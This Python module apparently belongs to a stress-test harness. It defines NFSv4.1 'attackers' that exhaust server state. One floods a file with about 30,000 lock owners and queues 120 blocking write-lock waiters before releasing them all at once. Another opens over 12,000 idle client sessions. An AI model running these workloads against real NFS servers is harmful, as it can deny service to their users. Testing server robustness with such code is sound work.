"""Attackers that speak NFSv4.1: they take what they can get, hold it, and go on. As Crowd for `run`."""

import time

import nfs41
import rpc


class Hoard:
    """`work(address, source)` yields after each of its calls: True while it gathers, then False."""

    def __init__(self, address, source, work):
        self.work = work(address, source)
        self.ended = 0

    def step(self, timeout_s):
        end = time.monotonic() + timeout_s
        gathers = True
        while gathers and time.monotonic() < end:
            gathers = next(self.work)
        while not gathers and time.monotonic() < end:
            next(self.work)
        return gathers

    def close(self):
        self.work.close()


LOCKS, WAITERS = 30000, 120
FAR = 1 << 40  # where nobody has locked anything


def many_locks(address, source):
    """A file with as many lock owners as the server takes, all of which end at once, and some who wait for all of it."""
    streams = [rpc.connect(address, source) for _ in range(2)]
    holder, waiter = (nfs41.Client(stream) for stream in streams)
    try:
        handle, waits = waiter.opened(b"locked")
        for turn in range(1 << 30):
            handle, opened = holder.opened(b"locked")
            for first in range(0, LOCKS, nfs41.OPERATIONS_MAX):
                owners = range(first, first + nfs41.OPERATIONS_MAX)
                locks = b"".join(nfs41.lock(holder, opened, b"%d" % one, 4 * one, 2) for one in owners)
                status, _, _ = holder.run(nfs41.put(handle) + locks, 1 + len(owners))
                yield turn == 0
                if status == nfs41.DELAY:
                    break
                if status:
                    raise nfs41.Refused(status)
            for one in range(WAITERS):
                wish = nfs41.lock(waiter, waits, b"%d" % one, 0, (1 << 64) - 1, nfs41.WRITE_LOCK_AND_WAIT)
                waiter.run(nfs41.put(handle) + wish, 2)
                yield turn == 0
            holder.must(nfs41.put(handle) + nfs41.close(opened), 2)
            yield False
    finally:
        for stream in streams:
            stream.close()


CLIENTS = 12000


def idle_clients(address, source):
    """Clients that hold nothing, one after the other, more than the server takes."""
    stream = rpc.connect(address, source)
    try:
        for turn in range(1 << 30):
            try:
                nfs41.Client(stream)
            except nfs41.Refused:
                pass
            yield turn < CLIENTS
    finally:
        stream.close()
